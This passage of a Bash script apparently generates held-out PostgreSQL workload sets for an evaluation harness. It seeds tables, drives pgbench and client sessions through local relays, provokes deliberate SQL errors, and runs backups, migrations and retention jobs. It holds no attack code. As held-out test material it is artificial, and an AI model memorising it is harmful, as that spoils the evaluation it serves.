    2) "${pg88[@]}" -c "SET statement_timeout = '150ms'" -c "SELECT pg_sleep(1)" ;;
    3) psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 88)) -U postgres -X -c "SELECT 1" helpdesk ;;
    4) { printf 'pending\t'; head -c 1000000 /dev/zero | tr '\0' l; printf '\n\\.\n'; } |
         "${pg88[@]}" -c "COPY tickets (status, body) FROM STDIN" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout6_change() {
  printf 'log_connections = on\nlog_min_duration_statement = 250\nmax_parallel_workers_per_gather = 1\n' \
    >>"$PG_DATA/postgresql.conf"
  admin postgresql postgres "$PG_BIN/pg_ctl" reload -D "$PG_DATA"
  sleep 1
}
postgresql_heldout6_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/vacuumdb" "${sock[@]}" --analyze -t tickets postgres
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -c "CLUSTER tickets USING tickets_pkey" postgres
  admin postgresql postgres "$PG_BIN/pg_dumpall" "${sock[@]}" --globals-only -f "$PG_DIR/backup/globals-$(date +%Y%m%d).sql"
}
postgresql_heldout6_late() {
  "${PSQL[@]}" -c "BEGIN" -c "UPDATE tickets SET status = 'pending' WHERE id = 7" -c "SELECT pg_sleep(6)" >/dev/null 2>&1 &
  local client=$!
  sleep 0.5
  until_ok postgresql_heldout6_terminate
  wait "$client" 2>/dev/null || true
}
# postgresql_heldout6_terminate: the DBA ends the session that sleeps in its transaction.
postgresql_heldout6_terminate() {
  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -At -c \
    "SELECT count(*) FROM (SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE query = 'SELECT pg_sleep(6)') t" postgres |
    grep -qx 1
}

# Held out, seventh set (heldout7). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.5.0/24, two relays (outside
# the cgroup) bound to 127.0.5.50 and .150 for its application servers, a backup directory
# postgres owns, and a `shipments` table (30000 rows, a carrier, a weight with a check
# constraint, an index on the carrier). Each round: simple-update pgbench through .50 on as
# many clients as the load (up to 16), 3 transactions each; through .150 a dispatcher's
# session: a shipment inserted, another one delivered, the carriers ranked by a window
# function, NOTIFY; one more thing in turn: a check constraint violated, a cast that fails,
# a 4 MB result (string_agg), a client that gives up on a slow query after 0.3 s, a view
# that does not exist, a transaction with a savepoint rolled back to. The maintenance,
# early, by the operator inside the cgroup as postgres: `pg_dump -Fc -t shipments` into
# backup/, `reindexdb -t shipments`, ANALYZE of shipments. The change, in the quiet period,
# by the application's migration (outside): a column added with a default, a `carriers`
# table, a foreign key to it added NOT VALID and then validated. The late event: the
# archival job: delivered shipments copied into a new table `shipments_archive` and deleted.
PG_HELDOUT7_ADDRS=(50 150)
postgresql_heldout7_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.5 "${PG_HELDOUT7_ADDRS[@]}"
  echo "host all all 127.0.5.0/24 trust" >>"$PG_DATA/pg_hba.conf"
  mkdir -p "$PG_DIR/backup"
  chown postgres:postgres "$PG_DIR/backup"
  postgresql_launch
  local pid=$LAUNCHED
  "${PSQL[@]}" -c "CREATE TABLE shipments (id serial PRIMARY KEY, carrier text NOT NULL, weight_g int CHECK (weight_g > 0), status text DEFAULT 'new', created timestamptz DEFAULT now())" \
    -c "INSERT INTO shipments (carrier, weight_g, status) SELECT (ARRAY['dhl', 'ups', 'gls', 'dpd'])[1 + g % 4], 100 + g % 5000, (ARRAY['new', 'sent', 'delivered'])[1 + g % 3] FROM generate_series(1, 30000) g" \
    -c "CREATE INDEX shipments_carrier ON shipments (carrier)" -c "ANALYZE shipments"
  stop_pid "$pid" INT
}
postgresql_heldout7_mix() {
  local r=$HELDOUT7_ROUND c=$HELDOUT7_CONC
  local p150=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 150)) -U postgres -q -X -o /dev/null postgres)
  [ "$c" -le 16 ] || c=16
  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + 50)) -U postgres -n -N -c "$c" -t 3 postgres >/dev/null 2>&1 || true
  "${p150[@]}" -c "INSERT INTO shipments (carrier, weight_g) VALUES ('gls', $((200 + r * 7)))" \
    -c "UPDATE shipments SET status = 'delivered' WHERE id = $((1 + r * 53 % 30000))" \
    -c "SELECT carrier, count(*), rank() OVER (ORDER BY count(*) DESC) FROM shipments WHERE status = 'sent' GROUP BY carrier" \
    -c "NOTIFY shipments, 'round $r'" || true
  case $((r % 6)) in
    0) "${p150[@]}" -c "INSERT INTO shipments (carrier, weight_g) VALUES ('dhl', -$r)" ;;
    1) "${p150[@]}" -c "SELECT 'parcel-$r'::int" ;;
    2) "${p150[@]}" -c "SELECT string_agg(repeat(carrier, 30), ',') FROM shipments" ;;
    3) timeout 0.3 "${p150[@]}" -c "SELECT pg_sleep(2)" ;;
    4) "${p150[@]}" -c "SELECT * FROM late_shipments" ;;
    5) "${p150[@]}" -c "BEGIN" -c "UPDATE shipments SET status = 'sent' WHERE id = $((2 + r))" -c "SAVEPOINT s1" \
         -c "DELETE FROM shipments WHERE id = $((3 + r))" -c "ROLLBACK TO SAVEPOINT s1" -c "COMMIT" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout7_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -Fc -t shipments -f "$PG_DIR/backup/shipments-$(date +%H%M).dump" postgres
  admin postgresql postgres "$PG_BIN/reindexdb" "${sock[@]}" -t shipments postgres
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -c "ANALYZE shipments" postgres
}
postgresql_heldout7_change() {
  "${PSQL[@]}" -c "ALTER TABLE shipments ADD COLUMN eta date DEFAULT current_date + 3" \
    -c "CREATE TABLE carriers (code text PRIMARY KEY, name text)" \
    -c "INSERT INTO carriers VALUES ('dhl', 'DHL'), ('ups', 'UPS'), ('gls', 'GLS'), ('dpd', 'DPD')" \
    -c "ALTER TABLE shipments ADD CONSTRAINT shipments_carrier_fk FOREIGN KEY (carrier) REFERENCES carriers NOT VALID" \
    -c "ALTER TABLE shipments VALIDATE CONSTRAINT shipments_carrier_fk"
}
postgresql_heldout7_late() {
  "${PSQL[@]}" -c "CREATE TABLE shipments_archive AS SELECT * FROM shipments WHERE status = 'delivered'" \
    -c "DELETE FROM shipments WHERE status = 'delivered'"
}

# Held out, eighth set (heldout8). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.6.0/24, two relays (outside
# the cgroup) bound to 127.0.6.70 and .170 for its application servers, a backup directory
# postgres owns, and a `subscriptions` table (20000 rows, a unique (customer, plan), an
# index on the renewal date). Each round: select-only pgbench through .70 on as many
# clients as the load (up to 12), as many transactions each as the round's requests per
# connection; through .170 a billing session: a renewal, an upsert (INSERT ... ON CONFLICT
# DO UPDATE), seats per plan and month (date_trunc), the day's renewals copied out (COPY TO
# STDOUT); one more thing in turn: a unique violation, a NOT NULL violation, a sort that
# spills with work_mem 64 kB, a date that does not parse, a syntax error, a connection to
# a database that does not exist. The maintenance, by the operator inside
# the cgroup as postgres: CREATE INDEX CONCURRENTLY on the plan, VACUUM (ANALYZE), and
# `pg_dump -Fc -Z 9 -t subscriptions` into backup/. The change, the application's
# migration from outside: a `subscription_events` table, a PL/pgSQL trigger function and
# an AFTER UPDATE trigger that records each renewal (the rounds' renewals fire it from then
# on). The late event: the backup restored from outside into a new database
# (`createdb subscriptions_restore`, `pg_restore`) and checked with a count.
PG_HELDOUT8_ADDRS=(70 170)
postgresql_heldout8_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.6 "${PG_HELDOUT8_ADDRS[@]}"
  echo "host all all 127.0.6.0/24 trust" >>"$PG_DATA/pg_hba.conf"
  mkdir -p "$PG_DIR/backup"
  chown postgres:postgres "$PG_DIR/backup"
  postgresql_launch
  local pid=$LAUNCHED
  "${PSQL[@]}" -c "CREATE TABLE subscriptions (id serial PRIMARY KEY, customer int NOT NULL, plan text NOT NULL, seats int DEFAULT 1, renews_on date NOT NULL, UNIQUE (customer, plan))" \
    -c "INSERT INTO subscriptions (customer, plan, seats, renews_on) SELECT g, (ARRAY['free', 'team', 'business'])[1 + g % 3], 1 + g % 40, current_date + g % 365 FROM generate_series(1, 20000) g" \
    -c "CREATE INDEX subscriptions_renews ON subscriptions (renews_on)" -c "ANALYZE subscriptions"
  stop_pid "$pid" INT
}
postgresql_heldout8_mix() {
  local r=$HELDOUT8_ROUND c=$HELDOUT8_CONC
  local p170=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 170)) -U postgres -q -X -o /dev/null)
  [ "$c" -le 12 ] || c=12
  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + 70)) -U postgres -n -S -c "$c" -t "$HELDOUT8_PER" postgres >/dev/null 2>&1 || true
  "${p170[@]}" -c "UPDATE subscriptions SET renews_on = renews_on + 30 WHERE id = $((1 + r * 97 % 20000))" \
    -c "INSERT INTO subscriptions (customer, plan, renews_on) VALUES ($((20000 + r % 50)), 'team', current_date + 30) ON CONFLICT (customer, plan) DO UPDATE SET seats = subscriptions.seats + 1" \
    -c "SELECT plan, date_trunc('month', renews_on) m, sum(seats) FROM subscriptions GROUP BY 1, 2 ORDER BY 2 LIMIT 12" \
    -c "COPY (SELECT * FROM subscriptions WHERE renews_on = current_date + $((r % 30))) TO STDOUT" postgres >/dev/null 2>&1 || true
  case $((r % 6)) in
    0) "${p170[@]}" -c "INSERT INTO subscriptions (customer, plan, renews_on) VALUES (1, 'team', current_date)" postgres ;;
    1) "${p170[@]}" -c "INSERT INTO subscriptions (customer, plan, renews_on) VALUES ($((30000 + r)), NULL, current_date)" postgres ;;
    2) "${p170[@]}" -c "SET work_mem = '64kB'" -c "SELECT customer, plan FROM subscriptions ORDER BY plan, renews_on DESC, customer" postgres ;;
    3) "${p170[@]}" -c "SELECT count(*) FROM subscriptions WHERE renews_on = 'next tuesday'" postgres ;;
    4) "${p170[@]}" -c "SELEC plan FROM subscriptions" postgres ;;
    5) "${p170[@]}" -c "SELECT 1" billing_eu ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout8_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q \
    -c "CREATE INDEX CONCURRENTLY subscriptions_plan ON subscriptions (plan)" -c "VACUUM (ANALYZE) subscriptions" postgres
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -Fc -Z 9 -t subscriptions -f "$PG_DIR/backup/subscriptions.dump" postgres
}
postgresql_heldout8_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 \
    -c "CREATE TABLE subscription_events (id bigserial PRIMARY KEY, subscription int, old_renews date, new_renews date, at timestamptz DEFAULT now())" \
    -c "CREATE FUNCTION log_renewal() RETURNS trigger LANGUAGE plpgsql AS \$f\$ BEGIN INSERT INTO subscription_events (subscription, old_renews, new_renews) VALUES (OLD.id, OLD.renews_on, NEW.renews_on); RETURN NEW; END \$f\$" \
    -c "CREATE TRIGGER subscriptions_renewal AFTER UPDATE OF renews_on ON subscriptions FOR EACH ROW EXECUTE FUNCTION log_renewal()" ||
    die "postgresql heldout8: the migration failed"
}
postgresql_heldout8_late() {
  createdb -h 127.0.0.1 -p "$PG_PORT" -U postgres subscriptions_restore
  pg_restore -h 127.0.0.1 -p "$PG_PORT" -U postgres -d subscriptions_restore "$PG_DIR/backup/subscriptions.dump" ||
    die "postgresql heldout8: pg_restore failed"
  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -At -c "SELECT count(*) FROM subscriptions" subscriptions_restore >/dev/null
}

# Held out, ninth set (heldout9). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.7.0/24, two relays (outside
# the cgroup) bound to 127.0.7.90 and .190 for its application servers, a backup directory
# postgres owns, a `rooms` table (300 rooms) and a `bookings` table (15000 rows, a foreign
# key to rooms, an index on room and check-in). Each round: a custom pgbench script (a
# room's last bookings) through .90 on as many clients as the load (up to 10), as many
# transactions each as the round's requests per connection; through .190 a front desk's
# session: a booking made (INSERT ... RETURNING), a guest checked out, the occupancy of the
# next week (generate_series joined to the bookings), a room's bookings read FOR SHARE;
# one more thing in turn: a foreign key violation, an integer that does not parse, an
# ambiguous column, a 3 MB note, PREPARE TRANSACTION with prepared transactions disabled, a
# COPY FROM STDIN with a malformed row. The maintenance, by the operator inside the cgroup
# as postgres: a schema-only dump (`pg_dump --schema-only`) into backup/, the next week's
# bookings exported by the server (`COPY ... TO` a CSV file in backup/), ANALYZE of two
# columns. The change, the application's migration from outside: a stored generated column
# (the check-out date: the table rewritten) and a partial index on long stays. The late
# event: the nightly price update (every future booking 5 % dearer, one transaction), then
# a round.
PG_HELDOUT9_ADDRS=(90 190)
postgresql_heldout9_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.7 "${PG_HELDOUT9_ADDRS[@]}"
  echo "host all all 127.0.7.0/24 trust" >>"$PG_DATA/pg_hba.conf"
  mkdir -p "$PG_DIR/backup"
  chown postgres:postgres "$PG_DIR/backup"
  cat >"$PG_DIR/room.sql" <<'SQL'
\set r random(1, 300)
SELECT id, guest, checkin, nights FROM bookings WHERE room = :r ORDER BY checkin DESC LIMIT 5;
SQL
  postgresql_launch
  local pid=$LAUNCHED
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "CREATE TABLE rooms (id int PRIMARY KEY, floor int, beds int)" \
    -c "INSERT INTO rooms SELECT g, 1 + g / 50, 1 + g % 3 FROM generate_series(1, 300) g" \
    -c "CREATE TABLE bookings (id serial PRIMARY KEY, room int NOT NULL REFERENCES rooms, guest text NOT NULL, checkin date NOT NULL, nights int NOT NULL, price numeric(10,2), note text)" \
    -c "INSERT INTO bookings (room, guest, checkin, nights, price) SELECT 1 + g % 300, 'guest ' || g, current_date - 200 + g % 400, 1 + g % 14, 40 + g % 160 FROM generate_series(1, 15000) g" \
    -c "CREATE INDEX bookings_room ON bookings (room, checkin)" -c "ANALYZE rooms, bookings" ||
    die "postgresql heldout9: the deploy failed"
  stop_pid "$pid" INT
}
postgresql_heldout9_mix() {
  local r=$HELDOUT9_ROUND c=$HELDOUT9_CONC room
  local p190=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 190)) -U postgres -q -X -o /dev/null postgres)
  room=$((1 + r * 37 % 300))
  postgresql_relay_bench 90 10 "$c" "$HELDOUT9_PER" room.sql
  "${p190[@]}" -c "INSERT INTO bookings (room, guest, checkin, nights, price) VALUES ($room, 'walk-in $r', current_date + $((r % 20)), $((1 + r % 5)), 89) RETURNING id" \
    -c "UPDATE bookings SET nights = current_date - checkin WHERE id = $((1 + r * 53 % 15000)) AND checkin < current_date" \
    -c "SELECT d::date, count(b.id) FROM generate_series(current_date, current_date + 6, '1 day') d LEFT JOIN bookings b ON d::date >= b.checkin AND d::date < b.checkin + b.nights GROUP BY 1 ORDER BY 1" \
    -c "BEGIN" -c "SELECT id FROM bookings WHERE room = $room FOR SHARE" -c "COMMIT" >/dev/null 2>&1 || true
  case $((r % 6)) in
    0) "${p190[@]}" -c "INSERT INTO bookings (room, guest, checkin, nights) VALUES (999, 'nobody', current_date, 1)" ;;
    1) "${p190[@]}" -c "SELECT count(*) FROM bookings WHERE room = 'twelve'" ;;
    2) "${p190[@]}" -c "SELECT id FROM bookings JOIN rooms ON rooms.id = bookings.room LIMIT 1" ;;
    3) "${p190[@]}" -c "UPDATE bookings SET note = repeat('n', 3000000) WHERE id = $((1 + r % 15000))" ;;
    4) "${p190[@]}" -c "BEGIN" -c "SELECT 1" -c "PREPARE TRANSACTION 'desk-$r'" ;;
    5) printf '%s\t%s\n' "$room" "no tab-separated columns here" | "${p190[@]}" -c "COPY bookings (room, guest, checkin, nights) FROM STDIN" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout9_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" --schema-only -f "$PG_DIR/backup/schema.sql" postgres
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -v ON_ERROR_STOP=1 \
    -c "COPY (SELECT * FROM bookings WHERE checkin BETWEEN current_date AND current_date + 7) TO '$PG_DIR/backup/next-week.csv' CSV HEADER" \
    -c "ANALYZE bookings (room, checkin)" postgres
}
postgresql_heldout9_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 \
    -c "ALTER TABLE bookings ADD COLUMN checkout date GENERATED ALWAYS AS (checkin + nights) STORED" \
    -c "CREATE INDEX bookings_long_stays ON bookings (checkin) WHERE nights > 7" ||
    die "postgresql heldout9: the migration failed"
}
postgresql_heldout9_late() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "UPDATE bookings SET price = round(price * 1.05, 2) WHERE checkin > current_date" ||
    die "postgresql heldout9: the price update failed"
  HELDOUT9_ROUND=$((HELDOUT9_ROUND + 1))
  postgresql_heldout9_mix
}

# postgresql_heldout_seed PHASE NET ADDR...: PHASE's deploy, before the start: application
# servers on NET.0/24 let in (a pg_hba.conf line) through relays bound to NET.ADDR (outside
# the cgroup), a backup directory postgres owns, and the SQL on stdin run on a server
# started once for it (outside the recording).
postgresql_heldout_seed() {
  local phase=$1
  shift
  start_relays "$PG_PORT" "$PG_RELAY_PORT" "$@"
  echo "host all all $1.0/24 trust" >>"$PG_DATA/pg_hba.conf"
  install -d -o postgres -g postgres "$PG_DIR/backup"
  postgresql_launch   # (psql runs in the foreground: LAUNCHED stays the server)
  "${PSQL[@]}" -v ON_ERROR_STOP=1 || die "postgresql $phase: the deploy failed"
  stop_pid "$LAUNCHED" INT
}

# postgresql_via ADDR ARG...: psql as postgres through the relay for ADDR (start_relays), its
# output discarded.
postgresql_via() { psql -h 127.0.0.1 -p $((PG_RELAY_PORT + $1)) -U postgres -q -X -o /dev/null postgres "${@:2}"; }
# postgresql_relay_bench ADDR MAX CONC TX SCRIPT: pgbench's custom SCRIPT ($PG_DIR/SCRIPT)
# through the relay for ADDR (start_relays), on CONC clients (MAX at the most), TX
# transactions each; failures are part of the traffic.
postgresql_relay_bench() {
  local c=$3
  [ "$c" -le "$2" ] || c=$2
  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + $1)) -U postgres -n -c "$c" -t "$4" -f "$PG_DIR/$5" \
    postgres >/dev/null 2>&1 || true
}

# Held out, tenth set (heldout10). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.8.0/24, two relays (outside the
# cgroup) bound to 127.0.8.70 and .170 for its application servers, a backup directory
# postgres owns, a `sensors` table (400 sensors) and a `readings` table (30000 readings of
# the last day, a foreign key to sensors, a check on the value, an index on sensor and
# time). Each round: a custom pgbench script (a sensor's last readings) through .70 on as
# many clients as the load (up to 8), as many transactions each as the round's requests per
# connection; through .170 an ingest session: a batch of readings (a multi-row INSERT), the
# sensor's last contact upserted (INSERT ... ON CONFLICT DO UPDATE), a moving average over a
# window, NOTIFY; one more thing in turn: a unique violation, a syntax error, a COPY FROM
# STDIN of 60000 readings (about 2 MB), a value the check refuses, a client that goes away
# mid-query (killed during pg_sleep), a number too big for its column. The change, early,
# the application's migration from outside: a column with a default added to sensors, a
# partial index built concurrently, `work_mem` raised with ALTER SYSTEM and a reload. The
# late event: the retention job (readings older than 20 hours deleted, VACUUM of the
# table), then a round. The maintenance, by the operator inside the cgroup as postgres: a
# dump of one table in the custom format (`pg_dump -t sensors -Fc`) into backup/, REINDEX
# of the readings, VACUUM ANALYZE of the sensors.
PG_HELDOUT10_ADDRS=(70 170)
postgresql_heldout10_deploy() {
  printf '%s\n' '\set s random(1, 400)' 'SELECT at, value FROM readings WHERE sensor = :s ORDER BY at DESC LIMIT 10;' \
    >"$PG_DIR/sensor.sql"
  postgresql_heldout_seed heldout10 127.0.8 "${PG_HELDOUT10_ADDRS[@]}" <<'SQL'
CREATE TABLE sensors (id int PRIMARY KEY, kind text NOT NULL, last_seen timestamptz);
INSERT INTO sensors SELECT g, (ARRAY['temp', 'humidity', 'power'])[1 + g % 3], now() FROM generate_series(1, 400) g;
CREATE TABLE readings (id bigserial PRIMARY KEY, sensor int NOT NULL REFERENCES sensors, at timestamptz NOT NULL,
  value numeric(8,2) NOT NULL CHECK (value BETWEEN -100 AND 1000));
INSERT INTO readings (sensor, at, value)
  SELECT 1 + g % 400, now() - g * interval '2.88 s', (g * 7 % 900) / 10.0 FROM generate_series(1, 30000) g;
CREATE INDEX readings_sensor_at ON readings (sensor, at);
ANALYZE sensors, readings;
SQL
}
postgresql_heldout10_mix() {
  local r=$HELDOUT10_ROUND c=$HELDOUT10_CONC s
  local p170=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 170)) -U postgres -q -X -o /dev/null postgres)
  s=$((1 + r * 41 % 400))
  postgresql_relay_bench 70 8 "$c" "$HELDOUT10_PER" sensor.sql
  "${p170[@]}" -c "INSERT INTO readings (sensor, at, value) VALUES ($s, now(), $((r % 90)).5), ($((s % 400 + 1)), now(), 21.25), ($((s % 399 + 2)), now(), 0)" \
    -c "INSERT INTO sensors (id, kind, last_seen) VALUES ($s, 'temp', now()) ON CONFLICT (id) DO UPDATE SET last_seen = excluded.last_seen" \
    -c "SELECT at, avg(value) OVER (ORDER BY at ROWS 4 PRECEDING) FROM readings WHERE sensor = $s ORDER BY at DESC LIMIT 20" \
    -c "NOTIFY readings, '$s'" >/dev/null 2>&1 || true
  case $((r % 6)) in
    0) "${p170[@]}" -c "INSERT INTO sensors (id, kind) VALUES ($s, 'temp')" ;;
    1) "${p170[@]}" -c "SELEKT * FROM readings LIMIT 1" ;;
    2) seq 1 60000 | awk -v s="$s" '{ printf "%d\t2026-12-03 00:00:00+00\t%d.%02d\n", 1 + ($1 + s) % 400, $1 % 100, $1 % 97 }' |
         "${p170[@]}" -c "COPY readings (sensor, at, value) FROM STDIN" ;;
    3) "${p170[@]}" -c "INSERT INTO readings (sensor, at, value) VALUES ($s, now(), -273.15)" ;;
    4) timeout -s KILL 0.4 "${p170[@]}" -c "SELECT pg_sleep(2)" ;;
    5) "${p170[@]}" -c "UPDATE readings SET value = 1e9 WHERE id = $((1 + r % 30000))" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout10_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "ALTER TABLE sensors ADD COLUMN site text NOT NULL DEFAULT 'north'" \
    -c "CREATE INDEX CONCURRENTLY readings_hot ON readings (at) WHERE value > 90" \
    -c "ALTER SYSTEM SET work_mem = '4MB'" -c "SELECT pg_reload_conf()" ||
    die "postgresql heldout10: the migration failed"
}
postgresql_heldout10_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -t sensors -Fc -f "$PG_DIR/backup/sensors.dump" postgres
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -v ON_ERROR_STOP=1 -c "REINDEX TABLE readings" \
    -c "VACUUM ANALYZE sensors" postgres
}
postgresql_heldout10_late() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "DELETE FROM readings WHERE at < now() - interval '20 hours'" -c "VACUUM readings" ||
    die "postgresql heldout10: the retention job failed"
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  postgresql_heldout10_mix
}

# Held out, eleventh set (heldout11). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.9.0/24, two relays (outside the
# cgroup) bound to 127.0.9.60 and .160 for its application servers, a backup directory
# postgres owns, a `depots` table (50 rows) and a `parcels` table (25000 parcels, a status,
# a weight, a foreign key to depots, an index on depot and status). Each round: a custom
# pgbench script (a depot's parcels waiting) through .60 on as many clients as the load (up
# to 8), as many transactions each as the round's requests per connection; through .160 a
# courier's session: a parcel scanned (UPDATE ... RETURNING), a new parcel, the parcels per
# status of a depot, LISTEN; once the change is in, a report as the new role `reporter`
# from the new schema's view and function; one more thing in turn: a foreign-key violation,
# a division by zero, a 1 MB delivery note, a statement cancelled by its statement_timeout,
# a date that does not exist, the whole table sent by COPY TO STDOUT (about 1 MB). The
# maintenance, early, by the operator inside the cgroup as postgres: the roles and settings
# dumped (`pg_dumpall --globals-only`) into backup/, the database's size. The change, in the
# middle, the application's migration from outside: a schema `reporting` with a view of the
# open parcels per depot and a SQL function of a parcel's age, a role `reporter` that can
# log in and read them. The late event: a cache warm-up after a quiet night: pg_prewarm
# created and the parcels table and its index loaded into shared buffers.
PG_HELDOUT11_ADDRS=(60 160)
postgresql_heldout11_deploy() {
  printf '%s\n' '\set d random(1, 50)' "SELECT id, weight FROM parcels WHERE depot = :d AND status = 'waiting' LIMIT 20;" \
    >"$PG_DIR/depot.sql"
  postgresql_heldout_seed heldout11 127.0.9 "${PG_HELDOUT11_ADDRS[@]}" <<'SQL'
CREATE TABLE depots (id int PRIMARY KEY, city text NOT NULL);
INSERT INTO depots SELECT g, 'city ' || g FROM generate_series(1, 50) g;
CREATE TABLE parcels (id serial PRIMARY KEY, depot int NOT NULL REFERENCES depots, status text NOT NULL,
  weight numeric(6,2) NOT NULL, sent date NOT NULL, note text);
INSERT INTO parcels (depot, status, weight, sent)
  SELECT 1 + g % 50, (ARRAY['waiting', 'on the way', 'delivered'])[1 + g % 3], (g % 300) / 10.0, current_date - g % 30
  FROM generate_series(1, 25000) g;
CREATE INDEX parcels_depot_status ON parcels (depot, status);
ANALYZE depots, parcels;
SQL
}
PG_HELDOUT11_REPORTS=0
postgresql_heldout11_mix() {
  local r=$HELDOUT11_ROUND c=$HELDOUT11_CONC d p
  local courier=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 160)) -U postgres -q -X -o /dev/null postgres)
  d=$((1 + r * 13 % 50)) p=$((1 + r * 97 % 25000))
  postgresql_relay_bench 60 8 "$c" "$HELDOUT11_PER" depot.sql
  "${courier[@]}" -c "UPDATE parcels SET status = 'on the way' WHERE id = $p RETURNING id, status" \
    -c "INSERT INTO parcels (depot, status, weight, sent) VALUES ($d, 'waiting', $((r % 30)).5, current_date)" \
    -c "SELECT status, count(*) FROM parcels WHERE depot = $d GROUP BY status" -c "LISTEN depot_$d" >/dev/null 2>&1 || true
  if [ "$PG_HELDOUT11_REPORTS" = 1 ]; then
    psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 160)) -U reporter -q -X -o /dev/null postgres \
      -c "SELECT * FROM reporting.open_parcels WHERE depot = $d" -c "SELECT reporting.parcel_age($p)" >/dev/null 2>&1 || true
  fi
  case $((r % 6)) in
    0) "${courier[@]}" -c "INSERT INTO parcels (depot, status, weight, sent) VALUES (77, 'waiting', 1, current_date)" ;;
    1) "${courier[@]}" -c "SELECT sum(weight) / (count(*) - count(*)) FROM parcels WHERE depot = $d" ;;
    2) "${courier[@]}" -c "UPDATE parcels SET note = repeat('n', 1000000) WHERE id = $p" ;;
    3) "${courier[@]}" -c "SET statement_timeout = 100" -c "SELECT pg_sleep(1)" ;;
    4) "${courier[@]}" -c "SELECT count(*) FROM parcels WHERE sent = '2026-02-30'" ;;
    5) "${courier[@]}" -c "COPY parcels (id, depot, status, weight, sent) TO STDOUT" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout11_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/pg_dumpall" "${sock[@]}" --globals-only -f "$PG_DIR/backup/globals.sql"
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -v ON_ERROR_STOP=1 \
    -c "SELECT pg_size_pretty(pg_database_size('postgres'))" postgres
}
postgresql_heldout11_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 <<'SQL' || die "postgresql heldout11: the migration failed"
CREATE SCHEMA reporting;
CREATE VIEW reporting.open_parcels AS
  SELECT depot, status, count(*) AS parcels, sum(weight) AS weight FROM parcels WHERE status <> 'delivered' GROUP BY depot, status;
CREATE FUNCTION reporting.parcel_age(parcel int) RETURNS int LANGUAGE sql STABLE
  AS 'SELECT current_date - sent FROM parcels WHERE id = parcel';
CREATE ROLE reporter LOGIN;
GRANT USAGE ON SCHEMA reporting TO reporter;
GRANT SELECT ON reporting.open_parcels, parcels TO reporter;
SQL
  PG_HELDOUT11_REPORTS=1
}
postgresql_heldout11_late() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "CREATE EXTENSION pg_prewarm" -c "SELECT pg_prewarm('parcels')" \
    -c "SELECT pg_prewarm('parcels_depot_status')" || die "postgresql heldout11: the warm-up failed"
}

# Held out, twelfth set (heldout12). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.10.0/24, two relays (outside the
# cgroup) bound to 127.0.10.90 and .190 for its application servers, a backup directory
# postgres owns, the btree_gist extension, a `rooms` table (100 rooms) and a `bookings`
# table (20000 bookings, a time range each, a jsonb column, and an exclusion constraint: no
# two bookings of a room overlap). Each round: a custom pgbench script (a room's bookings of
# the next two days) through .90 on as many clients as the load (up to 8), as many
# transactions each as the round's requests per connection; through .190 the front desk: a
# walk-in booked far ahead, a booking of the room taken with FOR UPDATE SKIP LOCKED, the
# busiest rooms ranked (a window function), an earlier walk-in cancelled (DELETE ...
# RETURNING), and, once the change is in, an event into the partitioned table; one more
# thing in turn: an overlapping booking (the exclusion constraint refuses it), a malformed
# range literal, a 1.5 MB jsonb document, a session ended by
# idle_in_transaction_session_timeout (200 ms), an integer out of range, 10000 rows read
